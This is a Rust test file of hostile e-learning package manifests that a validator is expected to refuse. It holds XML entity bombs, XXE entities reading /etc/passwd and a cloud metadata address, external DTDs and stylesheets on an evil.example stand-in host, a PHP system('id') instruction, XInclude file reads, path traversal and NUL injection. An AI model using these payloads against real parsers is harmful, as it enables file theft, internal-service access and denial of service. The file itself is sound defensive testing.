//! Manifests that attack whoever reads them: entities, outside references, bombs, and XML or JSON that readers differ
//! about.

use crate::{
    findings::code::Code::{self, *},
    hostile::{
        Case,
        packages::{Files, books, cmi5, h5p, refused, scorm_1_2 as scorm},
    },
};

fn good() -> String {
    scorm::manifest("", "Golf", &[("r1", "Golf", "")], &scorm::sco("r1", "start.html"))
}

/// A good SCORM package with a changed manifest.
fn with(name: &'static str, code: Code, change: impl Fn(String) -> String) -> Case {
    refused(name, scorm::of(change(good())).pages(&["start.html"]), code)
}

/// The same with a document type in front.
fn doctype(name: &'static str, doctype: &str) -> Case {
    with(name, PackageManifestEntities, |text| text.replacen("<manifest", &format!("{doctype}\n<manifest"), 1))
}

pub(crate) fn cases() -> Vec<Case> {
    [entities(), outside(), sizes(), unreadable(), json()].concat()
}

fn entities() -> Vec<Case> {
    let lol: String = (1..10).map(|n| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10))).collect();
    let unit = cmi5::unit("urn:1", "index.html");
    let book = books::opf("3.0", "", &[("a", "a.xhtml")], &["a"]);
    let metadata = scorm::manifest(
        "<adlcp:location>lom.xml</adlcp:location>",
        "Golf",
        &[("r1", "Golf", "")],
        &scorm::sco("r1", "start.html"),
    );
    vec![
        doctype("billion laughs", &format!("<!DOCTYPE manifest [<!ENTITY l0 \"lol\">{lol}]>")),
        doctype("quadratic blowup", &format!("<!DOCTYPE manifest [<!ENTITY a \"{}\">]>", "a".repeat(50_000))),
        doctype("external DTD", "<!DOCTYPE manifest SYSTEM \"http://evil.example/evil.dtd\">"),
        doctype("public DTD", "<!DOCTYPE manifest PUBLIC \"-//X//DTD Y//EN\" \"https://evil.example/y.dtd\">"),
        doctype("external entity of a file", "<!DOCTYPE manifest [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"),
        doctype(
            "external entity of a service",
            "<!DOCTYPE manifest [<!ENTITY x SYSTEM \"http://169.254.169.254/latest/meta-data/\">]>",
        ),
        doctype("parameter entities", "<!DOCTYPE manifest [<!ENTITY % p SYSTEM \"http://evil.example/p\"> %p; %q;]>"),
        doctype("recursive entities", "<!DOCTYPE manifest [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]>"),
        doctype(
            "default attributes of a DTD",
            "<!DOCTYPE manifest [<!ATTLIST resource href CDATA \"http://evil.example/\">]>",
        ),
        doctype("empty document type", "<!DOCTYPE manifest []>"),
        doctype("document type behind a comment", "<!-- <x> --><!DOCTYPE manifest>"),
        doctype("document type in small letters", "<!doctype manifest>"),
        with("document type in front of the declaration", PackageManifestEntities, |text| {
            format!("<!DOCTYPE manifest>{text}")
        }),
        with("document type in the middle", PackageManifestEntities, |text| {
            text.replace("<resources>", "<!DOCTYPE x><resources>")
        }),
        with("entity declared in the content", PackageManifestEntities, |text| {
            text.replace("<resources>", "<!ENTITY x \"y\"><resources>")
        }),
        with("entity of HTML in a title", PackageManifestEntities, |text| {
            text.replace("<title>Golf", "<title>Golf&nbsp;")
        }),
        with("entity in a reference", PackageManifestEntities, |text| text.replace("href=\"start", "href=\"&x;start")),
        refused(
            "document type of a cmi5 course",
            Files::default()
                .with(
                    "cmi5.xml",
                    cmi5::structure(&unit).replacen(
                        "<courseStructure",
                        "<!DOCTYPE c [<!ENTITY x \"y\">]><courseStructure",
                        1,
                    ),
                )
                .pages(&["index.html"]),
            PackageManifestEntities,
        ),
        refused(
            "document type of a book's container",
            books::of(book.clone()).without("META-INF/container.xml").with(
                "META-INF/container.xml",
                books::container("OEBPS/content.opf").replacen("<container", "<!DOCTYPE c SYSTEM \"x\"><container", 1),
            ),
            PackageManifestEntities,
        ),
        refused(
            "entities of a book's package document",
            books::of(book.replacen("<package", "<!DOCTYPE p [<!ENTITY x SYSTEM \"a\">]><package", 1)),
            PackageManifestEntities,
        ),
        refused(
            "entities of a metadata file",
            scorm::of(metadata).pages(&["start.html"]).with("lom.xml", "<!DOCTYPE lom [<!ENTITY x \"y\">]><lom/>"),
            PackageManifestEntities,
        ),
    ]
}

fn outside() -> Vec<Case> {
    let instruction = |name, text: &str| {
        with(name, PackageManifestOutside, |good| good.replacen("<manifest", &format!("{text}<manifest"), 1))
    };
    vec![
        instruction(
            "style sheet of another host",
            "<?xml-stylesheet type=\"text/xsl\" href=\"https://evil.example/x.xsl\"?>",
        ),
        instruction(
            "style sheet of another host, without scheme",
            "<?xml-stylesheet href='//evil.example/x.xsl' type='text/xsl'?>",
        ),
        instruction(
            "style sheet that is a script",
            "<?xml-stylesheet type=\"text/xsl\" href=\"data:text/xml,%3Cx/%3E\"?>",
        ),
        instruction("style sheet above the archive", "<?xml-stylesheet type=\"text/xsl\" href=\"../../x.xsl\"?>"),
        instruction(
            "style sheet behind a character reference",
            "<?xml-stylesheet type=\"text/xsl\" href=\"&#104;ttp&#58;//evil.example\"?>",
        ),
        with("a program in an instruction", PackageManifestOutside, |text| {
            text.replace("<resources>", "<?php system('id'); ?><resources>")
        }),
        with("inclusion of a file", PackageManifestOutside, |text| {
            text.replace("<resources>",
            "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" parse=\"text\"/><resources>")
        }),
    ]
}

fn sizes() -> Vec<Case> {
    let into = |name, text: String| {
        with(name, PackageManifestTooLarge, |good| good.replace("<resources>", &format!("{text}<resources>")))
    };
    let declared: String = (0..60).map(|n| format!(" xmlns:n{n}=\"u{n}\"")).collect();
    let noise = |count: usize, size: usize| -> String {
        let mut state = 1u32;
        (0..count)
            .map(|_| {
                let word: String = (0..size)
                    .map(|_| {
                        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
                        char::from(b'a' + (state >> 27) as u8 % 26)
                    })
                    .collect();
                format!("<!--{word}-->")
            })
            .collect()
    };
    vec![
        into("deep nesting", "<a>".repeat(50_000) + &"</a>".repeat(50_000)),
        into("a huge attribute", format!("<a b=\"{}\"/>", "x".repeat(200_000))),
        into("very many attributes", format!("<a{}/>", (0..20_000).map(|n| format!(" a{n}=\"\"")).collect::<String>())),
        into("very many elements", "<a/>".repeat(260_000)),
        into(
            "namespaces that multiply",
            format!("<a{declared}>").repeat(40) + &"<b xmlns=\"v\"/>".repeat(50_000) + &"</a>".repeat(40),
        ),
        into("a manifest of five megabytes", noise(500, 10_000)),
    ]
}

fn unreadable() -> Vec<Case> {
    let broken = |name, from: &'static str, to: &'static str| {
        with(name, PackageManifestUnreadable, move |text| text.replacen(from, to, 1))
    };
    let utf16: Vec<u8> = [0xff, 0xfe].into_iter().chain(good().encode_utf16().flat_map(u16::to_le_bytes)).collect();
    vec![
        broken("a manifest in UTF-7", "<?xml version=\"1.0\"", "<?xml version=\"1.0\" encoding=\"UTF-7\""),
        broken("UTF-16 that is none", "<?xml version=\"1.0\"", "<?xml version=\"1.0\" encoding=\"UTF-16\""),
        broken("a manifest in EBCDIC", "<?xml version=\"1.0\"", "<?xml version=\"1.0\" encoding=\"IBM037\""),
        refused("a manifest in UTF-16", scorm::of(utf16).pages(&["start.html"]), TextNotUtf8),
        broken("elements that cross", "</resource>\n</resources>", "</resources>\n</resource>"),
        broken("two root elements", "</manifest>", "</manifest><manifest/>"),
        broken("text behind the root", "</manifest>", "</manifest>text"),
        broken("the same attribute twice", "href=\"start.html\"", "href=\"start.html\" href=\"http://evil.example\""),
        broken("CDATA that never ends", "<title>Golf", "<title><![CDATA[Golf"),
        broken("CDATA outside of the root", "</manifest>", "</manifest><![CDATA[<manifest/>]]>"),
        broken("CDATA in an attribute", "href=\"start.html\"", "href=\"<![CDATA[start.html]]>\""),
        broken("the end of CDATA in a text", "<title>Golf", "<title>]]>Golf"),
        broken("a NUL in a reference", "href=\"start.html\"", "href=\"start.html&#0;.png\""),
        broken("a control character in a reference", "href=\"start.html\"", "href=\"start&#x1;.html\""),
        broken("an unknown prefix", "adlcp:scormtype", "evil:scormtype"),
        broken("a declaration in the middle", "<resources>", "<?xml version=\"1.0\"?><resources>"),
        broken("two dashes in a comment", "<resources>", "<!-- -- --><resources>"),
        broken("another root element", "<manifest ", "<html "),
        refused(
            "another root element, well-formed",
            scorm::of("<html><body>manifest</body></html>").pages(&["start.html"]),
            PackageManifestUnreadable,
        ),
        refused(
            "cmi5 with another root element",
            Files::default().with("cmi5.xml", "<course/>").pages(&["index.html"]),
            PackageManifestUnreadable,
        ),
    ]
}

fn json() -> Vec<Case> {
    let plain = h5p::manifest("Quiz", "H5P.Blanks", "", &[("H5P.Blanks", 1, 14)]);
    let of = |manifest: &str, content: &str| {
        Files::default().with("h5p.json", manifest).with("content/content.json", content)
    };
    let other = |name, from: &str, to: &str, code| refused(name, of(&plain.replacen(from, to, 1), "{}"), code);
    vec![
        other(
            "H5P with a field twice",
            "{\"title\"",
            "{\"mainLibrary\":\"H5P.Evil\",\"title\"",
            PackageManifestUnreadable,
        ),
        other("H5P with a comma too many", "\"}", "\",}", PackageManifestUnreadable),
        other("H5P whose title is a list", "\"Quiz\"", "[\"Quiz\"]", PackageManifestUnreadable),
        other("H5P with a version that is none", "\"1\"", "\"1/../../x\"", PackageManifestUnreadable),
        other("H5P without main library", "\"mainLibrary\"", "\"otherLibrary\"", PackageIncomplete),
        other(
            "H5P whose main library is no dependency",
            "\"mainLibrary\":\"H5P.Blanks\"",
            "\"mainLibrary\":\"H5P.Other\"",
            PackageIncomplete,
        ),
        other(
            "H5P library above the package",
            "\"machineName\":\"H5P.Blanks\"",
            "\"machineName\":\"../../H5P.Blanks\"",
            PackageFileOutside,
        ),
        other(
            "H5P library with a NUL",
            "\"machineName\":\"H5P.Blanks\"",
            "\"machineName\":\"H5P.Blanks\\u0000\"",
            PackageFileOutside,
        ),
        refused("H5P without content", of(&plain, "{}").without("content/content.json"), PackageIncomplete),
        refused(
            "H5P without its main library's folder",
            of(&plain, "{}").parts(&["H5P.Other-1.0/library.json"]),
            PackageIncomplete,
        ),
        refused("H5P with broken content", of(&plain, "{\"a\":"), PackageManifestUnreadable),
        other(
            "H5P with a version nested deeply",
            "\"1\"",
            &("[".repeat(500) + &"]".repeat(500)),
            PackageManifestTooLarge,
        ),
    ]
}
